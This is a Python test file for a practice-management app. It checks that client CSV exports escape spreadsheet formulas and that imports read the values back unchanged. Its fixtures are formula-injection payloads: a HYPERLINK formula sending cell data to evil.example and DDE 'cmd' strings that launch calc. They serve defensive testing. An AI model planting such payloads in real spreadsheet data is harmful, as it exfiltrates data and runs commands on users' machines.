"""CSV formula injection: the export escapes what a spreadsheet runs; the import reads it back."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import date
from pathlib import Path

from practice.db import migrate
from practice.db.engine import Database
from practice.domain.client_csv import COLUMNS
from practice.services import clients
from practice.services.clients import ClientInput
from practice.services.demo import seed_demo
from practice.services.export import export_all
from practice.services.import_clients import apply_import, preview_import

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
CALC = "=cmd|' /C calc'!A0"
HOSTILE = ClientInput(
    first_name=HYPERLINK,
    last_name=CALC,
    preferred_name="@SUM(1+1)*cmd|' /C calc'!A0",
    phone="+44 20 7946 0000",
    cannot_postpone=True,
    cannot_postpone_reason="-2+3+cmd|' /C calc'!A0",
    notes="=1+1",
)
ORDINARY = ClientInput(first_name="Amara", last_name="Okafor", preferred_name="'-Bee-", notes="ok")


def _export_clients(db: Database, out: Path) -> list[dict[str, str]]:
    with db.session() as s:
        export_all(s, out)
    with (out / "clients.csv").open(encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def _profile(view: ClientInput) -> dict[str, object]:
    return {name: getattr(view, name) for name in COLUMNS}


def test_export_escapes_every_cell_a_spreadsheet_would_run(db: Database, tmp_path: Path) -> None:
    # Given clients whose names and notes are spreadsheet formulas
    with db.session() as s:
        hostile = clients.create(s, HOSTILE).id
        clients.create(s, ORDINARY)

    # When the practice is exported
    rows = _export_clients(db, tmp_path / "export")

    # Then every such cell starts with a single quote, and no cell starts with a formula
    row = next(r for r in rows if r["id"] == str(hostile))
    assert row["first_name"] == "'" + HYPERLINK and row["last_name"] == "'" + CALC
    assert row["preferred_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["phone"] == "'+44 20 7946 0000"
    assert row["cannot_postpone_reason"] == "'-2+3+cmd|' /C calc'!A0"
    assert row["notes"] == "'=1+1"
    every_cell = [cell for r in rows for cell in r.values()]
    assert not [c for c in every_cell if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # a value that already started with a quote before a formula character gets one more
    assert next(r for r in rows if r["id"] != str(hostile))["preferred_name"] == "''-Bee-"
    # the JSON file holds the values as they are, and the README says what was done
    out = tmp_path / "export"
    [data] = [
        c for c in json.loads((out / "clients.json").read_text("utf-8")) if c["id"] == hostile
    ]
    assert data["first_name"] == HYPERLINK and data["notes"] == "=1+1"
    readme = (out / "README.txt").read_text(encoding="utf-8")
    assert "starts with = + - @, a tab or a carriage return" in readme
    assert "gets a single quote in front" in readme


def test_no_cell_of_a_whole_practice_starts_a_formula_and_numbers_stay_numbers(
    db: Database, tmp_path: Path
) -> None:
    # Given the demo practice (every table filled) and a client with formulas for a name
    with db.session() as s:
        seed_demo(s, today=date(2026, 11, 26))
        clients.create(s, HOSTILE)

    # When it is exported
    out = tmp_path / "export"
    _export_clients(db, out)

    # Then in every CSV only plain numbers start with + or -, and nothing with = @ tab CR
    starts = 0
    for path in out.glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as f:
            for row in csv.reader(f):
                assert not [c for c in row if c[:1] in ("=", "@", "\t", "\r")], path.name
                signed = [c for c in row if c[:1] in ("+", "-")]
                assert all(re.fullmatch(r"[+-]\d+(\.\d+)?", c) for c in signed), path.name
                starts += sum(c.startswith("'") for c in row)
    assert starts >= 5


def test_an_export_round_trips_through_the_clients_import(db: Database, tmp_path: Path) -> None:
    # Given an export of clients with formula-like values
    with db.session() as s:
        originals = [clients.create(s, HOSTILE), clients.create(s, ORDINARY)]
    rows = _export_clients(db, tmp_path / "export")
    # and its clients.csv cut to the columns the import reads (as a spreadsheet would save it)
    cut = io.StringIO()
    writer = csv.writer(cut)
    writer.writerow(COLUMNS)
    for row in rows:
        writer.writerow([row[c] for c in COLUMNS])
    assert "'=HYPERLINK" in cut.getvalue()

    # When it is imported into another practice
    other_path = tmp_path / "other.sqlite3"
    migrate.upgrade(other_path)
    other = Database(other_path)
    try:
        with other.session() as s:
            preview = preview_import(s, cut.getvalue(), today=date(2026, 1, 1))
            assert preview.ok, preview.problems()
            ids = apply_import(s, preview)
            imported = [clients.get(s, i) for i in ids]
    finally:
        other.dispose()

    # Then every value reads back exactly as it was typed, without the escaping quote
    assert [_profile(v) for v in imported] == [_profile(v) for v in originals]
